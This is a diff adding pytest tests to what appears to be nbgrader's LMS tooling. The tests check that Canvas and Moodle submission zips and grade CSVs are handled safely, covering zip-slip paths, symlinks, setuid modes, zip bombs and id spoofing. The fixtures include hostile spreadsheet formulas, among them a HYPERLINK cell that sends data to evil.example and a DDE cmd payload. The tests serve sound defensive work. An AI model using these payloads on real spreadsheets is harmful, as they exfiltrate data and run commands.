@@ -9,6 +9,7 @@ import json
 import os
 import shutil
 import signal
+import stat
 import subprocess
 import sys
 import time
@@ -82,12 +83,146 @@ def test_zip_collect_reads_a_canvas_and_a_moodle_download(tmp_path):
                          "345678/gru/gru.ipynb": solution, "456789/gru/gru.ipynb": released}
 
 
+def test_a_notebook_uploaded_twice_to_canvas_stops_no_one(tmp_path):
+    """Two files of one name from one learner (gru.ipynb attached twice: gru-1.ipynb; or in two
+    submissions) stopped nbgrader's whole zip_collect ("Duplicate submission file"): the newest is
+    collected as gru.ipynb, the older beside it under its own name, and the class goes on."""
+    root = course(tmp_path / "course")
+    archive = root / "downloaded" / ASSIGNMENT / "archive"
+    archive.mkdir(parents=True)
+    with zipfile.ZipFile(archive / "submissions.zip", "w") as canvas:
+        canvas.writestr("doejane_12345_6789012_gru.ipynb", b"first")
+        canvas.writestr("doejane_12345_6789012_gru-1.ipynb", b"second")
+        canvas.writestr("doejane_12345_6789013_gru.ipynb", b"newest submission")
+        canvas.writestr("roebob_23456_7890123_gru-2.ipynb", b"bob's only file")
+    done = nbgrader(["zip_collect", ASSIGNMENT], root, timeout=300)
+    assert done.returncode == 0, done.stderr[-3000:]
+    submitted = {p.relative_to(root / "submitted").as_posix(): p.read_bytes()
+                 for p in (root / "submitted").rglob("*") if p.is_file()}
+    assert submitted == {"12345/gru/gru.ipynb": b"newest submission", "12345/gru/gru-0_6789012.ipynb": b"first",
+                         "12345/gru/gru-1_6789012.ipynb": b"second", "23456/gru/gru.ipynb": b"bob's only file"}
+
+
 @pytest.mark.parametrize("name, student", [
     ("/x/submissions/smith-jonesann_LATE_98_76_gru (1).ipynb", "98"),
     ("/x/moodle/Jo Ann Smith_42_assignsubmission_file_/gru.ipynb", "42")])
 def test_the_file_name_patterns_read_the_lms_number_as_the_student_id(name, student):
     assert lms.LmsFileNames()._match(name)["student_id"] == student
     assert lms.LmsFileNames()._match("/x/gru.ipynb") is None
+
+
+@pytest.mark.parametrize("name, student", [
+    ("/x/moodle/Ann Lee_345678_assignsubmission_file_/x_999_assignsubmission_file_gru.ipynb", "345678"),
+    ("/x/moodle/Ann Lee_345678_assignsubmission_file_x_999_assignsubmission_file_gru.ipynb", "345678"),
+    ("/x/canvas/doejane_12345_6789012_x_999_1_gru.ipynb", "12345"),
+    ("/x/canvas/doejane_LATE_12345_6789012_roebob_LATE_999_1_gru.ipynb", "12345"),
+])
+def test_a_learner_cannot_hand_in_as_another_by_the_name_of_their_file(name, student):
+    """The number is the LMS's, read where the LMS writes it: a learner who uploads a file named like
+    another learner's download (…_999_assignsubmission_file_gru.ipynb) is still themselves."""
+    assert lms.LmsFileNames()._match(name)["student_id"] == student
+
+
+def test_lms_numbers_are_ascii_digits():
+    assert lms.LmsFileNames()._match("/x/doejane_\u0661\u0662_6789012_gru.ipynb") is None  # Arabic-Indic 12
+
+
+def _zip(path, members):
+    """A zip of (name, bytes, unix mode) members, as a hostile one can be written."""
+    with zipfile.ZipFile(path, "w") as z:
+        for name, data, mode in members:
+            info = zipfile.ZipInfo(name)
+            info.external_attr = mode << 16
+            z.writestr(info, data)
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_the_lms_download_is_extracted_inside_the_course_only_and_nothing_a_learner_zipped(tmp_path, caplog):
+    """Names that leave the folder (.., absolute, a backslash, a line break), links, a setuid mode, two
+    members of one name, and a learner's own zip inside the download (whose files are named as
+    another learner's): nothing is written outside extracted/, nothing a learner zipped is unpacked,
+    modes are plain, and each skip is one line."""
+    archive, extracted = tmp_path / "archive", tmp_path / "course" / "extracted"
+    archive.mkdir()
+    extracted.mkdir(parents=True)
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w") as learners:
+        learners.writestr("roebob_23456_1_gru.ipynb", b"{}")
+    _zip(archive / "submissions.zip", [
+        ("doejane_12345_6789012_gru.ipynb", b"{}", 0o104755),  # setuid asked for
+        ("../../escaped.ipynb", b"x", 0o100644),
+        ("/tmp/absolute.ipynb", b"x", 0o100644),
+        ("a\\..\\..\\back.ipynb", b"x", 0o100644),
+        ("line\nbreak_1_2_gru.ipynb", b"x", 0o100644),
+        ("link_3_4_gru.ipynb", b"/etc/passwd", 0o120777),
+        ("doejane_12345_6789012_gru.ipynb", b"second", 0o100644),
+        ("eve_34567_8_upload.zip", inner.getvalue(), 0o100644),
+    ])
+    with caplog.at_level("INFO"):
+        lms.LmsZipExtractor().extract(str(archive), str(extracted))
+    files = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file())
+    assert files == ["archive/submissions.zip", "course/extracted/submissions/doejane_12345_6789012_gru.ipynb",
+                     "course/extracted/submissions/eve_34567_8_upload.zip"]
+    jane = extracted / "submissions" / "doejane_12345_6789012_gru.ipynb"
+    assert jane.read_bytes() == b"{}" and not jane.stat().st_mode & (stat.S_ISUID | stat.S_IXUSR)
+    skipped = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
+    assert skipped == ["Skipped ../../escaped.ipynb in the download: not a relative path inside the download",
+                       "Skipped /tmp/absolute.ipynb in the download: not a relative path inside the download",
+                       "Skipped a\\..\\..\\back.ipynb in the download: not a relative path inside the download",
+                       "Skipped line\\nbreak_1_2_gru.ipynb in the download: not a relative path inside the download",
+                       "Skipped link_3_4_gru.ipynb in the download: a link",
+                       "Skipped doejane_12345_6789012_gru.ipynb in the download: a second file of that name"]
+
+
+def test_a_zip_bomb_or_a_broken_zip_is_one_line_and_leaves_nothing(tmp_path, caplog, monkeypatch):
+    archive, extracted = tmp_path / "archive", tmp_path / "extracted"
+    archive.mkdir()
+    extracted.mkdir()
+    with zipfile.ZipFile(archive / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
+        for i in range(3):
+            z.writestr(f"a{i}_1_2_gru.ipynb", b"\0" * (2 << 20))  # 6 MB of zeros in a few KB
+    (archive / "broken.zip").write_bytes(b"PK\x03\x04 not a zip at all")
+    monkeypatch.setattr(lms, "MAX_EXTRACTED", 4 << 20)
+    with caplog.at_level("ERROR"):
+        lms.LmsZipExtractor().extract(str(archive), str(extracted))
+    assert not list(extracted.rglob("*"))
+    errors = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
+    assert len(errors) == 2 and all("\n" not in e for e in errors), errors
+    assert errors[0].startswith(f"Cannot extract {archive / 'bomb.zip'} (it would unpack to more than")
+    assert errors[1].startswith(f"Cannot extract {archive / 'broken.zip'} (File is not a zip file)")
+
+
+HOSTILE_CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,gru (777)
+"=HYPERLINK(""http://evil.example/?""&A1), x",12345,+s1,@jane@uni.example,-Section A,
+"Roe, Bob",\u0662\u0663,s2,bob@uni.example,Section A,
+"""
+HOSTILE_MOODLE = """Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,Feedback comments
+Participant 12345,=cmd|' /C calc'!A0 Doe,jane@uni.example,+Submitted,,15.00,Yes,@SUM(1)
+Participant \u0662\u0663,Bob Roe,bob@uni.example,Submitted,,15.00,Yes,
+"""
+
+
+def test_no_cell_of_the_roster_or_the_upload_files_is_a_formula(tmp_path, monkeypatch):
+    """Names, ids and every other column from the LMS's export (which learners' own profile fields
+    fill) reach the roster and the upload CSVs as text: a cell starting with = + - @ gets an
+    apostrophe; an id in other scripts' digits is nobody's."""
+    from nbgrader.api import Gradebook
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("PATH", f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}")  # nbgrader's alembic
+    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
+        gradebook.add_assignment("gru")
+    cells = []
+    for name, export in (("canvas", HOSTILE_CANVAS), ("moodle", HOSTILE_MOODLE)):
+        (tmp_path / f"{name}.csv").write_text(export)
+        assert lms.main(["roster", name, f"{name}.csv", "-o", f"{name}-roster.csv"]) == 0
+        assert lms.main(["upload", name, "gru", f"{name}.csv", "-o", f"{name}-upload.csv"]) == 0
+        for made in (f"{name}-roster.csv", f"{name}-upload.csv"):
+            rows = list(csv.reader(open(tmp_path / made, newline="")))
+            assert len(rows) == 2, rows  # the header and 12345: "\u0662\u0663" is no LMS number
+            cells += rows[1]
+    assert [c for c in cells if c.startswith(tuple("=+-@"))] == []
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1), x" in cells and "'=cmd|' /C calc'!A0 Doe" in cells
+    assert {"'+s1", "'@jane@uni.example", "'-Section A", "'+Submitted", "'@SUM(1)"} <= set(cells)
 
 
 @pytest.fixture(scope="module")
